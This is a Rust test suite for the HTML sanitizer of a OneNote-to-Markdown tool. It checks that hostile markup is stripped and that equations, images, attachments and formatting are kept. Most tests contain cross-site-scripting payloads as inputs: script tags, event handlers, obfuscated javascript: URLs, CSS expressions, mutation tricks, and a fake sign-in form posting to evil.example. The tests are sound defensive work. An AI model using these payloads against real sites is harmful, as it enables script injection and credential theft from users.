//! The sanitizer against hostile HTML, and what it must keep from real OneNote pages.
//!
//! Every check parses the sanitized HTML with scraper (as a browser would) and inspects elements
//! and attributes, rather than searching the text: `&lt;script&gt;` as text is harmless, an
//! attribute spelled `ONCLICK` is not.

use crate::support::{RESOURCE_PREFIX, assert_safe};
use onenote_md::ResourceKind;
use onenote_md::sanitize::{SanitizedPage, sanitize_page};
use scraper::Html;

fn sanitize(html: &str) -> SanitizedPage {
    sanitize_page(html, &|id| format!("{RESOURCE_PREFIX}{id}"))
}

/// A body wrapped the way OneNote writes pages.
fn page(body: &str) -> String {
    format!(
        r#"<html lang="en-US"><head><title>Test</title><meta name="created" content="2024-01-01T00:00:00.0000000" /></head><body data-absolute-enabled="true" style="font-family:Calibri;font-size:11pt"><div style="position:absolute;left:48px;top:115px;width:624px">{body}</div></body></html>"#
    )
}

fn resource_url(id: &str) -> String {
    format!(
        "https://graph.microsoft.com/v1.0/users('ada@contoso.example')/onenote/resources/{id}/$value"
    )
}

/// The visible text of sanitized HTML.
fn text_of(body_html: &str) -> String {
    Html::parse_fragment(body_html)
        .root_element()
        .text()
        .collect()
}

#[test]
fn scripts_never_survive_nor_their_text() {
    let html = r#"<html><head><script>alert("HEAD")</script><title>T</title></head>
        <body><script>alert("BODY")</script><p>ok<script type="module">import("x")</script></p>
        <SCRIPT SRC="https://evil.example/x.js"></SCRIPT><scr<script>ipt>alert(1)</script>
        <noscript><p>NOSCRIPT</p></noscript><template><p>TEMPLATE</p></template></body></html>"#;
    let page = sanitize(html);
    assert_safe(&page.body_html);
    let text = text_of(&page.body_html);
    for leaked in ["alert(\"", "import(", "NOSCRIPT", "TEMPLATE"] {
        assert!(
            !text.contains(leaked),
            "{leaked} leaked: {}",
            page.body_html
        );
    }
    assert!(text.contains("ok"));
}

#[test]
fn event_handlers_are_removed_from_every_element() {
    let html = page(&format!(
        r#"<p onclick="alert(1)" ONMOUSEOVER="alert(2)">a</p><span onfocus=alert(3) tabindex=0>b</span>
        <img src="{}" onerror="alert(4)" onload="alert(5)"><table onmouseenter="x"><tr><td onclick="y">c</td></tr></table>
        <a href="https://example.com" onclick="alert(6)">d</a><div/onclick=alert(7)>e</div>"#,
        resource_url("1-ab!1-cd")
    ));
    let page = sanitize(&html);
    assert_safe(&page.body_html);
    assert!(text_of(&page.body_html).contains('e'));
}

#[test]
fn script_urls_in_links_and_images_are_dropped() {
    let hrefs = [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "java&#x09;script:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//evil.example/steal",
        "/relative/logout",
        "#fragment",
    ];
    let mut body = String::new();
    for href in hrefs {
        body.push_str(&format!(
            r#"<p><a href="{href}">link</a><img src="{href}" alt="img"></p>"#
        ));
    }
    body.push_str(
        r#"<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg data">"#,
    );
    let page = sanitize(&page(&body));
    assert_safe(&page.body_html);
    let fragment = Html::parse_fragment(&page.body_html);
    let links = fragment
        .tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .filter(|e| e.name() == "a")
        .count();
    assert_eq!(links, 0, "no link should survive: {}", page.body_html);
    let text = text_of(&page.body_html);
    assert_eq!(
        text.matches("link").count(),
        hrefs.len(),
        "link texts stay as text"
    );
    assert!(
        text.contains("svg data"),
        "an image that is dropped leaves its alt text"
    );
}

#[test]
fn dangerous_css_is_removed_and_layout_dropped() {
    let styles = [
        "background-image:url(https://evil.example/track.png)",
        "background-color:url(javascript:alert(1))",
        "width:expression(alert(1))",
        "color:red;behavior:url(x.htc)",
        "-moz-binding:url(https://evil.example/xbl#x)",
        "font-family:\\75 rl(x)",
        "color:red;/* comment */",
        "@import url(https://evil.example/x.css);color:red",
        "color:red\"><script>alert(1)</script>",
        "position:absolute;left:0;top:0;width:100%;height:100%;z-index:9999",
        "position:fixed",
    ];
    let body: String = styles
        .iter()
        .map(|s| format!("<p style='{s}'>x</p>"))
        .collect();
    let page = sanitize(&page(&body));
    assert_safe(&page.body_html);
}

#[test]
fn external_images_are_removed() {
    let body = r#"<img src="https://evil.example/track.png" alt="tracker"><img src="http://evil.example/a.gif">
        <img src="//evil.example/b.png"><img src="/local.png"><img srcset="https://evil.example/c.png 2x">
        <img src="https://graph.microsoft.com/v1.0/me/onenote/resources/..%2Fsecret/$value" alt="encoded">"#;
    let page = sanitize(&page(body));
    assert_safe(&page.body_html);
    let fragment = Html::parse_fragment(&page.body_html);
    assert!(
        fragment
            .tree
            .nodes()
            .filter_map(|n| n.value().as_element())
            .all(|e| e.name() != "img")
    );
    assert!(page.resources.is_empty());
    assert!(text_of(&page.body_html).contains("tracker"));
}

#[test]
fn forms_and_their_controls_are_removed() {
    let body = r#"<form action="https://evil.example/steal" method="post"><p>Sign in again:</p>
        <input name="password" type="password" value="VALUE"><button formaction="https://evil.example">BUTTON</button>
        <select><option>OPTION</option></select><textarea>TEXTAREA</textarea></form>
        <input type="image" src="https://evil.example/x.png"><isindex action="https://evil.example">"#;
    let page = sanitize(&page(body));
    assert_safe(&page.body_html);
    let text = text_of(&page.body_html);
    for leaked in ["VALUE", "BUTTON", "OPTION", "TEXTAREA"] {
        assert!(!text.contains(leaked), "{leaked}: {}", page.body_html);
    }
}

#[test]
fn iframes_become_links_to_their_original_video_only() {
    let body = r#"<iframe src="https://evil.example/phish" width="800" height="600"></iframe>
        <iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe data-original-src="https://www.youtube.com/watch?v=abc" src="https://www.youtube.com/embed/abc" />
        <frameset><frame src="https://evil.example"></frameset><embed src="https://evil.example/x.swf"><object data="https://evil.example/x.swf"></object>"#;
    let page = sanitize(&page(body));
    assert_safe(&page.body_html);
    let fragment = Html::parse_fragment(&page.body_html);
    let hrefs: Vec<&str> = fragment
        .tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .filter_map(|e| e.attr("href"))
        .collect();
    assert_eq!(hrefs, ["https://www.youtube.com/watch?v=abc"]);
}

#[test]
fn svg_is_removed_with_its_content() {
    let body = r#"<svg onload="alert(1)"><script>alert(2)</script><text>SVGTEXT</text><a xlink:href="javascript:alert(3)">x</a></svg>
        <svg><style><img src=x onerror=alert(4)></style></svg>"#;
    let page = sanitize(&page(body));
    assert_safe(&page.body_html);
    assert!(
        !text_of(&page.body_html).contains("SVGTEXT"),
        "{}",
        page.body_html
    );
}

/// The equations of a page, as the browser's parser finds them in the sanitized HTML.
fn equations(body_html: &str) -> Vec<String> {
    Html::parse_fragment(body_html)
        .select(&scraper::Selector::parse("math").unwrap())
        .map(|math| math.html())
        .collect()
}

#[test]
fn equations_are_kept_as_mathml_the_browser_draws() {
    let body = r#"<p>The quadratic formula:</p><p><math xmlns="http://www.w3.org/1998/Math/MathML" display="block"><mi>x</mi><mo>=</mo><mfrac><mrow><mo>−</mo><mi>b</mi><mo>±</mo><msqrt><msup><mi>b</mi><mn>2</mn></msup><mo>−</mo><mn>4</mn><mi>a</mi><mi>c</mi></msqrt></mrow><mrow><mn>2</mn><mi>a</mi></mrow></mfrac></math></p>
        <p><math><mrow><mo stretchy="false">(</mo><mi mathvariant="bold">v</mi><mspace width="0.2em"/><mo>&lt;</mo></mrow></math></p>"#;
    let page = sanitize(&page(body));
    assert_safe(&page.body_html);
    let found = equations(&page.body_html);
    assert_eq!(found.len(), 2, "{}", page.body_html);
    for part in [
        r#"<math display="block">"#,
        "<mfrac>",
        "<msqrt>",
        "<msup><mi>b</mi><mn>2</mn></msup>",
    ] {
        assert!(found[0].contains(part), "{part} missing from {}", found[0]);
    }
    for part in [
        r#"<mo stretchy="false">(</mo>"#,
        r#"<mi mathvariant="bold">v</mi>"#,
        r#"<mspace width="0.2em">"#,
        "<mo>&lt;</mo>",
    ] {
        assert!(found[1].contains(part), "{part} missing from {}", found[1]);
    }
}

#[test]
fn equations_cannot_carry_script_links_or_html() {
    let body = r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
        <math href="javascript:alert(2)"><mi href="javascript:alert(3)" xlink:href="javascript:alert(4)">x</mi></math>
        <math><mi onclick="alert(5)" onmouseover="alert(6)" style="color:red;background:url(https://evil.example/x)">y</mi></math>
        <math><semantics><mi>z</mi><annotation-xml encoding="text/html"><script>alert(7)</script><img src=x onerror=alert(8)><a href="javascript:alert(9)">ANNOTATION</a></annotation-xml></semantics></math>
        <math><mtext><a href="https://evil.example/">LINKTEXT</a><iframe src="https://evil.example/"></iframe></mtext></math>
        <math><maction actiontype="statusline"><mi>w</mi><mtext>STATUS</mtext></maction><mglyph src="https://evil.example/g.png"></mglyph></math>
        <math><mi mathvariant="bold&quot; onclick=&quot;alert(10)">q</mi><mo lspace="expression(alert(11))">+</mo></math>"#;
    let page = sanitize(&page(body));
    assert_safe(&page.body_html);
    let html = page.body_html.to_ascii_lowercase();
    // (The text inside `annotation-xml` may stay, as text: the browser's parser moves HTML
    // out of an equation.)
    for leaked in [
        "alert(",
        "annotation-xml",
        "linktext",
        "evil.example",
        "href",
        "onclick",
        "actiontype",
        "mglyph",
        "expression",
        "<a",
        "<img",
        "<iframe",
    ] {
        assert!(
            !html.contains(leaked),
            "{leaked} leaked: {}",
            page.body_html
        );
    }
    // What is left of each equation is still an equation.
    assert_eq!(equations(&page.body_html).len(), 7, "{}", page.body_html);
    assert!(text_of(&page.body_html).contains('w'));
}

#[test]
fn quotes_cannot_break_out_of_attributes() {
    let body = format!(
        r#"<p title='x" onmouseover="alert(1)'>a</p><img src="{}" alt='a" onerror="alert(2)'>
        <a href='https://ok.example/"onmouseover=alert(3) x="'>b</a><p style='color:red" onclick="alert(4)'>c</p>
        <p dir='rtl" onclick="alert(5)'>d</p>"#,
        resource_url("1-ab!1-cd")
    );
    let page = sanitize(&page(&body));
    assert_safe(&page.body_html);
    let fragment = Html::parse_fragment(&page.body_html);
    let img = fragment
        .tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .find(|e| e.name() == "img")
        .expect("the resource image is kept");
    assert_eq!(
        img.attr("alt"),
        Some(r#"a" onerror="alert(2)"#),
        "the alt text is kept, as text"
    );
}

#[test]
fn base_meta_and_link_elements_are_removed() {
    let html = r#"<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
        <link rel="stylesheet" href="https://evil.example/x.css"><title>T</title></head>
        <body><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
        <link rel="import" href="https://evil.example/x.html"><p>text</p></body></html>"#;
    let page = sanitize(html);
    assert_safe(&page.body_html);
    assert_eq!(text_of(&page.body_html).trim(), "text");
}

#[test]
fn mutation_tricks_stay_inert() {
    let body = r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
        <p><style><img src=x onerror=alert(2)></style></p><xmp><img src=x onerror=alert(3)></xmp>
        <textarea><img src=x onerror=alert(4)></textarea><title><img src=x onerror=alert(5)></title>
        <a href="https://ok.example"><a href="javascript:alert(6)">nested</a></a><!--><img src=x onerror=alert(7)>-->
        <img src="x` `<script>alert(8)</script>"` `>"#;
    let page = sanitize(&page(body));
    assert_safe(&page.body_html);
}

#[test]
fn resources_are_served_through_the_app() {
    let body = format!(
        r#"<img alt="Floor plan" width="320" height="200" src="{}" data-src-type="image/png" data-fullres-src="{}" data-fullres-src-type="image/png" style="position:absolute;left:10px;top:20px" />
        <object data-attachment="budget 2025 & Q1.xlsx" type="application/vnd.ms-excel" data="{}" />
        <p>after</p>"#,
        resource_url("1-aa11!1-8e7d"),
        resource_url("1-dd44!1-8e7d"),
        resource_url("1-0a0b!1-8e7d"),
    );
    let page = sanitize(&page(&body));
    assert_safe(&page.body_html);
    assert_eq!(page.title, "Test");
    let fragment = Html::parse_fragment(&page.body_html);
    let elements: Vec<_> = fragment
        .tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .collect();
    let img = elements
        .iter()
        .find(|e| e.name() == "img")
        .expect("image kept");
    assert_eq!(img.attr("src"), Some("/onenote/resources/1-aa11!1-8e7d"));
    assert_eq!(img.attr("width"), Some("320"));
    assert!(img.attr("data-fullres-src").is_none() && img.attr("data-src-type").is_none());
    let hrefs: Vec<&str> = elements.iter().filter_map(|e| e.attr("href")).collect();
    assert_eq!(
        hrefs,
        [
            "/onenote/resources/1-dd44!1-8e7d",
            // The attachment's link carries its name, for the download.
            "/onenote/resources/1-0a0b!1-8e7d?name=budget+2025+%26+Q1.xlsx"
        ]
    );
    assert!(text_of(&page.body_html).contains("📎 budget 2025 & Q1.xlsx"));
    assert!(
        text_of(&page.body_html).contains("after"),
        "content after a self-closing object is kept"
    );

    let described: Vec<(&str, ResourceKind)> = page
        .resources
        .iter()
        .map(|r| (r.id.as_str(), r.kind))
        .collect();
    assert_eq!(
        described,
        [
            ("1-aa11!1-8e7d", ResourceKind::Image),
            ("1-dd44!1-8e7d", ResourceKind::Image),
            ("1-0a0b!1-8e7d", ResourceKind::Attachment),
        ]
    );
    assert_eq!(
        page.resources[2].content_type.as_deref(),
        Some("application/vnd.ms-excel")
    );
}

#[test]
fn keeps_text_formatting_links_tags_and_notes() {
    let body = r#"<h1 style="font-size:16pt;color:#1e4e79">Plan</h1>
        <p data-tag="to-do:completed">Done thing</p>
        <p dir="rtl" lang="ar">مرحبا <span style="font-weight:bold;position:absolute">عالم</span></p>
        <ul><li><span data-tag="important">Key</span></li></ul>
        <p><a href="https://example.com/a?b=1&amp;c=2" target="_blank">web</a> <a href="mailto:ada@contoso.example">mail</a></p>
        <!-- InkNode is not supported -->"#;
    let page = sanitize(&page(body));
    assert_safe(&page.body_html);
    let text = text_of(&page.body_html);
    assert!(text.contains("☑ Done thing"), "{text}");
    assert!(text.contains("[Important] Key"), "{text}");
    assert!(
        text.contains("OneNote could not show part of this page: InkNode is not supported"),
        "{text}"
    );
    let fragment = Html::parse_fragment(&page.body_html);
    let elements: Vec<_> = fragment
        .tree
        .nodes()
        .filter_map(|n| n.value().as_element())
        .collect();
    assert!(
        elements
            .iter()
            .any(|e| e.name() == "h1" && e.attr("style") == Some("font-size:16pt;color:#1e4e79"))
    );
    assert!(
        elements.iter().any(|e| e.name() == "p"
            && e.attr("dir") == Some("rtl")
            && e.attr("lang") == Some("ar"))
    );
    assert!(
        elements
            .iter()
            .any(|e| e.name() == "span" && e.attr("style") == Some("font-weight:bold"))
    );
    let hrefs: Vec<&str> = elements.iter().filter_map(|e| e.attr("href")).collect();
    assert_eq!(
        hrefs,
        [
            "https://example.com/a?b=1&c=2",
            "mailto:ada@contoso.example"
        ]
    );
}

#[test]
fn positioned_blocks_flow_in_reading_order() {
    let html = r#"<html><head><title>T</title></head><body data-absolute-enabled="true">
        <div style="position:absolute;left:48px;top:400px"><p>third</p></div>
        <div style="position:absolute;left:400px;top:100px"><p>second</p></div>
        <div style="position:absolute;left:48px;top:100px"><p>first</p></div></body></html>"#;
    let page = sanitize(html);
    let text = text_of(&page.body_html);
    let at = |word: &str| {
        text.find(word)
            .unwrap_or_else(|| panic!("{word} missing from {text}"))
    };
    assert!(
        at("first") < at("second") && at("second") < at("third"),
        "{text}"
    );
}

#[test]
fn pathological_nesting_does_not_overflow() {
    // Deep enough that following it by recursion would overflow a test thread's stack; not
    // deeper, because html5ever itself takes time quadratic in the depth.
    let depth = 5_000;
    let html = format!(
        "{}deep{}",
        "<div><span>".repeat(depth),
        "</span></div>".repeat(depth)
    );
    let page = sanitize(&html);
    assert_safe(&page.body_html);
    assert!(text_of(&page.body_html).contains("deep"));
    let markdown = onenote_md::to_markdown(&html, &onenote_md::PageMeta::default());
    assert!(markdown.markdown.contains("deep"));
    let lists = format!(
        "{}item{}",
        "<ul><li>".repeat(depth),
        "</li></ul>".repeat(depth)
    );
    assert!(
        onenote_md::to_markdown(&lists, &onenote_md::PageMeta::default())
            .markdown
            .contains("item")
    );
    assert_safe(&sanitize(&lists).body_html);
}

#[test]
fn empty_and_garbage_input() {
    for html in [
        "",
        "<",
        "<html>",
        "\u{0}\u{FFFF}",
        "<body><p>",
        "</p></body></html>",
    ] {
        let page = sanitize(html);
        assert_safe(&page.body_html);
        assert!(page.resources.is_empty());
    }
}
